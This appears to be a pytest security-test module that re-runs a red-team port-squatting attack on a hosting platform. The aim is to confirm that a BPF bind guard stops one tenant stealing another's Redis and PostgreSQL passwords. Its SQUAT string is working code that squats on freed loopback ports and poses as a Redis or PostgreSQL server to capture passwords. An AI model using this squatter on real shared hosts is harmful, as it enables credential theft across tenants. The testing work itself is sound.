"""Red team redteam2 (2026-12-02): the loopback ports of a project's Redis and of the tenant PostgreSQL are squattable.

Same attack as test_redteam2_port_squat (fixed there for apps' ports), on the ports tenants' apps connect to with
their credentials: mallory's app spins on bind(127.0.0.1:<port>) with SO_REUSEADDR (every listener and its port is
in /proc/net/tcp). When alice's Redis instance or the tenant PostgreSQL server dies (a crash, an OOM kill; simulated
here by SIGKILL to that one process, found by the port it listens on), the kernel frees the port and mallory binds
it before InkMCP restarts the server on the same port (REDIS_URL and DATABASE_URL must not change). alice's app
then hands its credentials to mallory: Redis sends `AUTH <user> <password>` in clear, and libpq answers a
cleartext-password request with the password (DATABASE_URL sets no `require_auth`). The restart then fails on the
taken port, so mallory keeps it.

Found by redteam2 (strict xfails then). Before (attacker-side proof, this module's attack on a real root server):
mallory's squatter captured `*3 AUTH ink_7f4f... I0uhXEyz...` (alice's REDIS_URL password) and `p ... tmKs1qsr...`
(alice's DATABASE_URL password, after sending AuthenticationCleartextPassword); no redis-server ran for alice
afterwards.

Fixed by svcports (2026-12-02): the bind guard (`providers/compute/local/bindguard.py`), a cgroup BPF hook on
bind(), lets a project user's process bind only its own runs' $PORT (or port 0): mallory's squatter gets EPERM on
every try, so it never holds the port, captures nothing, and the watchdog (Redis) or the supervisor (PostgreSQL)
brings alice's server back on the same port, where her client's retries then succeed. These tests perform the same
attack and assert that from mallory's side (never bound, the last bind() error EPERM, nothing captured) and that
the server listens on its port again with a new process.
"""

from __future__ import annotations

import asyncio
import contextlib
import errno
import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import psutil
import pytest

from tests.security.conftest import (
    ROOT,
    SHARED_ENV,
    lab_exec,
    lab_live,
    lab_repo,
    security_server,
    session,
)
from tests.support import ServerProc, call

pytestmark = [pytest.mark.asyncio, pytest.mark.slow, ROOT]

ALICE = "rt2-svc-alice"
MALLORY = "rt2-svc-mallory"

# Inside mallory's app: bind the port the moment it is free; answer as a Redis (+OK) or as a PostgreSQL server
# asking for a cleartext password, and keep what the client sent.
SQUAT = r'''
import socket, struct, threading, time

port, kind = ARGS["port"], ARGS["kind"]


def serve(c):
    if kind == "redis":
        STATE.setdefault("captured", []).append(c.recv(4096).decode(errors="replace"))
        c.sendall(b"+OK\r\n")
        return
    n = struct.unpack("!I", c.recv(4))[0]
    body = c.recv(n - 4)
    if body[:4] == b"\x04\xd2\x16\x2f":  # SSLRequest: no
        c.sendall(b"N")
        n = struct.unpack("!I", c.recv(4))[0]
        c.recv(n - 4)
    c.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
    STATE.setdefault("captured", []).append(c.recv(4096).decode(errors="replace"))


def squat():
    while not STATE.get("stop"):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind(("127.0.0.1", port))
            s.listen(16)
        except OSError as e:
            STATE["bind_errno"] = e.errno
            s.close()
            time.sleep(0.0005)
            continue
        STATE["bound"] = time.time()
        s.settimeout(0.2)
        while not STATE.get("stop"):
            try:
                c, _ = s.accept()
            except socket.timeout:
                continue
            c.settimeout(3)
            try:
                serve(c)
            except Exception as e:
                STATE.setdefault("errors", []).append(repr(e))
            c.close()
        s.close()


for key in ("stop", "bound", "captured", "errors", "bind_errno"):
    STATE.pop(key, None)
threading.Thread(target=squat, daemon=True).start()
result = "armed"
'''

REPORT = r'''
STATE["stop"] = True
result = {"bound": STATE.get("bound"), "captured": STATE.get("captured", []), "errors": STATE.get("errors", []),
          "bind_errno": STATE.get("bind_errno")}
'''

# Inside alice's app: what her code does with its URL (a Redis AUTH, psql with DATABASE_URL), retried while the
# server is down.
CLIENT = r'''
import socket, subprocess, time, urllib.parse

u = urllib.parse.urlsplit(ARGS["service_url"])
out = []
for _ in range(60):  # until the server is back (Redis: the watchdog, every 5 s; PostgreSQL: the supervisor)
    try:
        if ARGS["kind"] == "redis":
            s = socket.create_connection((u.hostname, u.port), timeout=2)
            s.sendall(f"*3\r\n$4\r\nAUTH\r\n${len(u.username)}\r\n{u.username}\r\n${len(u.password)}\r\n"
                      f"{u.password}\r\n".encode())
            out.append(s.recv(100).decode(errors="replace"))
            s.close()
            break
        p = subprocess.run(["psql", ARGS["service_url"], "-c", "select 1"], capture_output=True, text=True, timeout=10)
        out.append([p.returncode, p.stderr[-200:]])
        if p.returncode == 0 or "closed the connection" in p.stderr or "password" in p.stderr:
            break
    except OSError as e:
        out.append(repr(e))
    time.sleep(0.3)
result = out
'''


@pytest.fixture(scope="module")
def own_server() -> Iterator[ServerProc]:
    """A server of this module's own: its tenant PostgreSQL server is killed here (the package's is shared)."""
    with security_server("rt2-svc-", ("alice", "mallory"), **SHARED_ENV) as srv:
        yield srv


@pytest.fixture(scope="module")
async def world(own_server: ServerProc, repos: Path) -> dict[str, Any]:
    async with session(own_server, "alice") as a:
        web = await lab_live(a, lab_repo(repos, "rt2-svc-alice"), "svclab", project_name=ALICE,
                             database={"type": "postgres"})
        await call(a, "provision_database", project_name=ALICE, type="redis")
        creds = await call(a, "get_database_credentials", project_name=ALICE)
    async with session(own_server, "mallory") as m:
        lab = await lab_live(m, lab_repo(repos, "rt2-svc-mallory"), "mallory", project_name=MALLORY)
    urls = [v for v in _strings(creds) if v.startswith(("redis://", "postgresql://", "postgres://"))]
    return {"alice": web, "mallory": lab, "redis": next(u for u in urls if u.startswith("redis://")),
            "postgres": next(u for u in urls if u.startswith("postgres"))}


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _listener_pid(port: int) -> int:
    """The process listening on 127.0.0.1:`port` (the server this test's InkMCP started)."""
    for conn in psutil.net_connections("tcp4"):
        if conn.status == psutil.CONN_LISTEN and conn.laddr.port == port and conn.pid:
            return conn.pid
    raise AssertionError(f"nothing listens on {port}")


async def _attack(srv: ServerProc, world: dict[str, Any], kind: str) -> dict[str, Any]:
    url = world[kind]
    port = urlsplit(url).port
    assert port is not None
    lab_exec(srv, world["mallory"]["url"], SQUAT, port=port, kind=kind)
    victim = _listener_pid(port)
    os.kill(victim, signal.SIGKILL)  # alice's Redis / the tenant PostgreSQL dies, as in a crash or an OOM kill
    time.sleep(0.5)
    said = lab_exec(srv, world["alice"]["url"], CLIENT, service_url=url, kind=kind)
    report = lab_exec(srv, world["mallory"]["url"], REPORT)  # stops the squatter
    password = urlsplit(url).password
    assert password
    return {"said": said, "report": report, "leaked": [c for c in report["captured"] if password in c],
            "port": port, "victim": victim}


def _came_back(got: dict[str, Any], timeout: float = 20.0) -> int:
    """The pid now listening on the attacked port: a new process of the same server (never mallory's)."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            pid = _listener_pid(got["port"])
            if pid != got["victim"]:
                return pid
        except AssertionError:
            pass
        assert time.monotonic() < deadline, f"nothing listens on port {got['port']} again: {got}"
        time.sleep(0.2)


def _assert_refused(got: dict[str, Any]) -> None:
    report = got["report"]
    assert not got["leaked"], f"mallory captured alice's password: {got}"
    assert report["bound"] is None and not report["captured"], f"mallory held the port: {got}"
    assert report["bind_errno"] == errno.EPERM, f"mallory's bind() was not refused by the guard: {got}"


async def test_a_dead_redis_instances_port_never_gets_alices_password(own_server: ServerProc,
                                                                      world: dict[str, Any]) -> None:
    got = await _attack(own_server, world, "redis")
    _assert_refused(got)
    server = psutil.Process(_came_back(got))
    assert "redis-server" in server.name(), server
    assert any("NOAUTH" not in reply and reply.startswith("+OK") for reply in got["said"]), got["said"]


async def test_a_dead_tenant_postgres_port_never_gets_alices_password(own_server: ServerProc,
                                                                      world: dict[str, Any]) -> None:
    got = await _attack(own_server, world, "postgres")
    _assert_refused(got)
    server = psutil.Process(_came_back(got))
    assert server.name() in ("postgres", "postmaster"), server
    assert [0, ""] in [[r[0], ""] for r in got["said"] if isinstance(r, list)], f"alice's psql never got in: {got}"


# Inside a tenant's app: what bind() says for each port (errno, or 0 when it bound), and for a free stretch of the
# app range, what redteam2's "hold every app port" attack (#4) still gets (bound-only sockets, no listen).
PROBE = r'''
import errno, os, socket


def try_bind(port, family=socket.AF_INET, host="127.0.0.1", kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind((host, port))
        return 0
    except OSError as e:
        return e.errno
    finally:
        s.close()


others = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(table).read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A" and int(f[7]) != os.getuid():
            others.add(int(f[1].split(":")[1], 16))
held = []
for port in range(ARGS["low"], ARGS["low"] + 200):
    s = socket.socket()
    try:
        s.bind(("0.0.0.0", port))
        held.append(s)
    except OSError as e:
        s.close()
own = int(os.environ["PORT"])
result = {
    "own": own,
    "own_port": try_bind(own),  # our own listener has it: EADDRINUSE, i.e. the guard let the bind through
    "others": {p: try_bind(p) for p in sorted(others)},
    "others_v6": {p: try_bind(p, socket.AF_INET6, "::") for p in sorted(others)},
    "extra": {p: try_bind(p) for p in ARGS["extra"]},
    "ephemeral": try_bind(0),
    "udp": try_bind(ARGS["extra"][0], kind=socket.SOCK_DGRAM),
    "held": len(held),
}
for s in held:
    s.close()
'''


def _probe(srv: ServerProc, url: str, extra: list[int], low: int = 27000) -> dict[str, Any]:
    got = lab_exec(srv, url, PROBE, extra=extra, low=low)
    for field in ("others", "others_v6", "extra"):
        got[field] = {int(k): v for k, v in got[field].items()}
    return got


async def test_a_tenant_binds_its_own_port_and_nothing_else(own_server: ServerProc, world: dict[str, Any]) -> None:
    """Every other listener of the machine (alice's app, her Redis, the tenant PostgreSQL server, nginx's, the MCP
    port) answers mallory's bind() with EPERM before the kernel even looks for a conflict; a free port of the app
    range too, so holding the range (redteam2 #4) gets nothing; her own $PORT, port 0 and UDP pass."""
    redis, pg = urlsplit(world["redis"]).port, urlsplit(world["postgres"]).port
    got = _probe(own_server, world["mallory"]["url"], extra=[redis, pg, 16999, 20001, 29998])
    assert got["own_port"] == errno.EADDRINUSE, got  # allowed by the guard; taken by her own listener
    assert {redis, pg, own_server.port, own_server.proxy_port} <= set(got["others"]), got
    assert set(got["others"].values()) == {errno.EPERM}, got
    assert set(got["others_v6"].values()) == {errno.EPERM}, got  # [::] would take the IPv4 port too
    assert set(got["extra"].values()) == {errno.EPERM}, got
    assert got["held"] == 0, f"mallory still holds app ports: {got}"
    assert got["ephemeral"] == 0 and got["udp"] == 0, got
    # the app's own runtime log says what the kernel only answered with EPERM (InkMCP looks every few seconds)
    deadline = time.monotonic() + 30
    async with session(own_server, "mallory") as m:
        while True:
            logs = await call(m, "get_logs", project_name=MALLORY, service_name="web", scope="runtime", tail=100)
            said = [line for line in logs["lines"] if "[inkmcp] bind() of port" in line]
            if said:
                break
            assert time.monotonic() < deadline, f"no line about the refused binds in mallory's log: {logs['lines']}"
            await asyncio.sleep(1)
    assert "refused: a tenant's process may bind only its service's port" in said[-1], said
    assert f"($PORT={got['own']})" in said[-1], said
    reserved = Path("/proc/sys/net/ipv4/ip_local_reserved_ports").read_text()
    low, high = (int(x) for x in Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split())
    if low <= pg <= high:  # listen() on an unbound socket never picks the tenant server's port
        assert any(int(a) <= pg <= int(b or a) for a, _, b in (s.partition("-") for s in reserved.strip().split(","))
                   if a), reserved


async def test_after_a_crash_restart_on_a_new_port_the_old_one_is_refused(own_server: ServerProc,
                                                                          world: dict[str, Any]) -> None:
    """portguard restarts a crashed app on a new port: the new $PORT is the app's, the old one no longer is."""
    before = _probe(own_server, world["alice"]["url"], extra=[20001])
    old = before["own"]
    os.kill(_app_pid(old), signal.SIGKILL)  # alice's app dies (a crash, an OOM kill)
    deadline = time.monotonic() + 60
    while True:
        try:
            after = _probe(own_server, world["alice"]["url"], extra=[old])
            if after["own"] != old:
                break
        except (AssertionError, OSError):
            pass
        assert time.monotonic() < deadline, "alice's app never came back on a new port"
        time.sleep(0.5)
    assert after["own_port"] == errno.EADDRINUSE, after  # the new port is hers (her listener holds it)
    assert after["extra"] == {old: errno.EPERM}, after  # the old one is not any more


def _app_pid(port: int) -> int:
    """The tenant process listening on `port` (InkMCP's held duplicate of its socket is root's)."""
    for conn in psutil.net_connections("tcp"):
        if conn.status == psutil.CONN_LISTEN and conn.laddr.port == port and conn.pid:
            with contextlib.suppress(psutil.Error):
                if psutil.Process(conn.pid).uids().real != 0:
                    return conn.pid
    raise AssertionError(f"no tenant process listens on {port}")
